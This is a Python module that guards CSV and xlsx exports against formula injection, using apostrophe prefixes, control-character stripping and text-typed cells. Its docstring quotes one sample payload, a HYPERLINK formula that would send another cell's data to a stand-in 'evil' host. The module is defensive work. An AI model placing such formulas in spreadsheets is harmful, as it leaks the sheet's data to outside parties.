"""Cells that cannot attack the person who opens the spreadsheet.

Input columns and model text go into CSV and xlsx files as they came. A spreadsheet program
evaluates a CSV cell that starts with `=`, `+`, `-` or `@` (tab and carriage return too) as
a formula, and openpyxl writes any string starting with `=` as a live one: a respondent who
writes `=HYPERLINK("https://evil/?"&B2,"x")` would get a working link into the analyst's
sheet. As OWASP's CSV-injection guidance says, such a CSV cell is written with a leading
`'`; an xlsx cell keeps its text and is typed as text. xlsx also refuses most control
characters (openpyxl raises on them, and the whole file would be lost): they are dropped.
"""
from __future__ import annotations

from typing import Any, Iterable, Sequence

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A CSV cell's value, neutralised where a spreadsheet would read a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def append_xlsx_row(sheet: Worksheet, values: Sequence[Any]) -> None:
    """Append a row of plain values: strings stripped of the characters xlsx cannot hold,
    and typed as text, never as formulas."""
    sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values])
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f":
            cell.data_type = "s"
